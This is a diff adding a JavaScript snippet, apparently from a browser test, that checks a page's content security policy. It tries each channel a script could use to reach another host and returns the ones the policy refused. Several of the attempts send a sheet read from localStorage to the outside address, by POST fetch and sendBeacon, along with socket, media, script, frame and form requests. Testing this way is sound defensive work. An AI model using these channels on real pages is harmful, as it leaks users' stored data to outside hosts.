@@ -1,0 +1,34 @@
+// Tries every way that a script has to send something to another host, and gives what the policy refused.
+const away = arguments[0];
+const refused = [];
+document.addEventListener('securitypolicyviolation', event => refused.push(event.effectiveDirective));
+
+const load = (tag, address) => {
+  const element = document.createElement(tag);
+  element.src = away + address;
+  document.body.append(element);
+};
+const submit = () => {
+  const form = document.querySelector('form');
+  form.action = away + 'form';
+  form.method = 'post';
+  form.target = '_blank';
+  HTMLFormElement.prototype.submit.call(form);
+};
+const sheet = localStorage.getItem('hoctap/sheet/cdht');
+const ways = [
+  () => fetch(away + 'fetch'),
+  () => fetch(away + 'post', { method: 'POST', mode: 'no-cors', body: sheet }),
+  () => navigator.sendBeacon(away + 'beacon', sheet),
+  () => new WebSocket(away.replace('http', 'ws') + 'socket'),
+  () => new EventSource(away + 'events'),
+  () => load('img', 'image'),
+  () => load('script', 'script.js'),
+  () => load('iframe', 'frame'),
+  () => load('video', 'video'),
+  submit,
+];
+for (const way of ways) {
+  try { Promise.resolve(way()).catch(() => 0); } catch (refusal) { /* said by the event */ }
+}
+return new Promise(done => setTimeout(() => done(refused), 1500));
